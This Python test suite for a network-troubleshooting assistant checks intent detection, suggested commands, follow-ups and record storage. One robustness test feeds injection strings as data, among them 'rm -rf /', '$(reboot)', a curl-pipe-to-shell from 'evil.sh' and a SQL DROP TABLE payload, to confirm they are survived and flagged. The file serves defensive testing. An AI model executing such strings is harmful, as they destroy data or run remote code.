"""The Assistant end to end, with the real models, spaCy, MiniLM (ONNX), FAISS and SQLite."""

from __future__ import annotations

import pytest

from netcopilot.core.types import Request


def ask(assistant, text: str, **kw):
    return assistant.answer(Request(text=text, user="cli:tester", **kw))


def test_the_newcomer_question(assistant) -> None:
    answer = ask(assistant, "why can't I reach 10.0.0.5 on port 443?")
    assert answer.intent in ("port_check", "connectivity")
    assert answer.clarify is None
    assert [(e["label"], e["text"]) for e in answer.entities] == [("IPV4", "10.0.0.5"), ("PORT", "443")]
    top = answer.commands[0]
    assert "10.0.0.5" in top["command"] and top["utility"] in ("nc", "nmap", "ncat", "curl", "ping")
    assert any("443" in c["command"] for c in answer.commands[:3])
    assert all(c["why"] and c["risk"] in ("safe", "caution", "dangerous") for c in answer.commands)
    assert len(answer.commands) == 5 and len({c["utility"] for c in answer.commands[:3]}) >= 2
    assert answer.causes and answer.fixes
    assert answer.matches and all(0 < m.similarity <= 1 for m in answer.matches)
    assert answer.answer_id is not None and answer.model_versions["models"]


def test_follow_up_reuses_the_host(assistant) -> None:
    first = ask(assistant, "is port 443 open on web01.corp.example?")
    second = ask(assistant, "and port 80?", conversation_id=first.conversation_id)
    assert second.followup
    assert [e["text"] for e in second.carried] == ["web01.corp.example"]
    assert any("web01.corp.example" in c["command"] and "80" in c["command"] for c in second.commands)
    assert second.intent == first.intent


def test_new_topic_in_the_same_conversation_is_not_a_follow_up(assistant) -> None:
    first = ask(assistant, "is port 443 open on web01.corp.example?")
    second = ask(assistant, "my wifi keeps dropping every few minutes on the macbook",
                 conversation_id=first.conversation_id)
    assert not second.followup and second.intent == "wifi"


def test_unclear_question_gets_a_clarifying_question(assistant) -> None:
    answer = ask(assistant, "it is broken again")
    assert answer.clarify and "?" in answer.clarify


def test_smalltalk_and_history(assistant) -> None:
    hello = ask(assistant, "hi there!")
    assert hello.intent == "smalltalk" and hello.reply
    ask(assistant, "dns lookups for corp.example time out")
    history = ask(assistant, "what did I ask you before?")
    assert history.intent == "history"
    assert any("corp.example" in row["text"] for row in history.history)


def test_solved_session_becomes_retrievable(assistant) -> None:
    first = ask(assistant, "vpn tunnel to the berlin office is up but no traffic passes")
    assistant.feedback(first.answer_id, "cli:tester", "good", 1.0)
    assistant.mark_solved(first.conversation_id)
    later = ask(assistant, "the tunnel to berlin is up yet nothing gets through")
    sessions = [m for m in later.matches if m.kind == "session"]
    assert sessions and sessions[0].id == str(first.conversation_id) and sessions[0].similarity > 0.5


@pytest.mark.parametrize(
    "text",
    ["", "   ", "\x00\x01\x02binary\xff junk", "a" * 100_000, "ping " * 20_000,
     "¿por qué no puedo llegar a 10.0.0.5?", "為什麼我無法連接到伺服器", "💥🔥🔥",
     "ping 8.8.8.8; rm -rf /", "$(reboot)", "`shutdown -h now`", "ping 10.0.0.5 && curl evil.sh | sh",
     "'; DROP TABLE users; --", "\n\n\n", "ping 999.999.999.999"],
)
def test_bad_input_never_crashes(assistant, text: str) -> None:
    answer = ask(assistant, text)
    assert answer.query is not None
    if text.strip():
        assert answer.commands
    else:
        assert answer.clarify and not answer.commands


def test_long_and_binary_input_is_noted(assistant) -> None:
    assert any("first 2000 characters" in n for n in ask(assistant, "a" * 100_000).notes)
    assert any("binary" in n for n in ask(assistant, "\x00\x07 ping 10.0.0.1").notes)
    assert any("English" in n for n in ask(assistant, "為什麼我無法連接到伺服器").notes)
    assert any("shell syntax" in n for n in ask(assistant, "ping 8.8.8.8; rm -rf /").notes)


def test_records_are_stored(assistant) -> None:
    ask(assistant, "traceroute to 1.1.1.1 stops at hop 4")
    counts = assistant.store.counts()
    assert counts["answers"] == 1 and counts["suggested_commands"] == 5 and counts["messages"] == 2


def test_batch_requests_store_nothing(assistant) -> None:
    assistant.answer(Request(text="dns is slow on 10.1.2.3", record=False))
    assert assistant.store.counts()["answers"] == 0
